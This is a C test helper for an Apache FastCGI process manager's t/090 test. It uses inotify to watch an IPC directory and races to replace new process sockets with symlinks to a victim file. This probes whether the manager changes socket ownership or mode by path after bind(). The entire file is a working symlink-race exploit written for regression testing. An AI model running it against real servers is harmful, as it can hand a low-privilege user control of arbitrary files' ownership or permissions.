/* Licensed under the Apache License, Version 2.0 (the "License"); you may
 * not use this file except in compliance with the License. You may obtain
 * a copy of the License at http://www.apache.org/licenses/LICENSE-2.0
 */

/*
 * t/090's attacker: run as httpd's User, it watches the IPC directory and,
 * the moment a process socket appears, puts a symbolic link to VICTIM in
 * its place. A process manager that changes a socket's owner or mode by
 * path after bind() would then change VICTIM's. Runs for SECONDS at most
 * and prints how many sockets it replaced.
 *
 *   fcgix_ipcrace IPC_DIR VICTIM SECONDS
 */
#define _GNU_SOURCE 1
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/inotify.h>

static double now(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    char buf[8192] __attribute__((aligned(__alignof__(struct inotify_event))));
    double end;
    long swapped = 0, seq = 0;
    int fd;

    if (argc != 4) {
        fprintf(stderr, "usage: %s IPC_DIR VICTIM SECONDS\n", argv[0]);
        return 2;
    }
    end = now() + atof(argv[3]);
    if ((fd = inotify_init1(IN_NONBLOCK)) < 0
        || inotify_add_watch(fd, argv[1], IN_CREATE) < 0) {
        perror("inotify");
        return 2;
    }
    while (now() < end) {
        struct pollfd p = { fd, POLLIN, 0 };
        ssize_t n;
        char *q;

        if (poll(&p, 1, 100) <= 0) {
            continue;
        }
        n = read(fd, buf, sizeof(buf));
        for (q = buf; n > 0 && q < buf + n;) {
            struct inotify_event *ev = (struct inotify_event *)q;
            size_t len = strlen(ev->name);
            q += sizeof(*ev) + ev->len;
            if (ev->len && ev->name[0] == 'p' && len > 5
                && !strcmp(ev->name + len - 5, ".sock")
                && strcmp(ev->name, "pm.sock")) {
                char tmp[4096], dst[4096];
                snprintf(tmp, sizeof(tmp), "%s/.race%ld", argv[1], seq++);
                snprintf(dst, sizeof(dst), "%s/%s", argv[1], ev->name);
                if (symlink(argv[2], tmp) == 0) {
                    if (rename(tmp, dst) == 0) {
                        swapped++;
                    }
                    else {
                        unlink(tmp);
                    }
                }
            }
        }
    }
    printf("swapped=%ld\n", swapped);
    return 0;
}
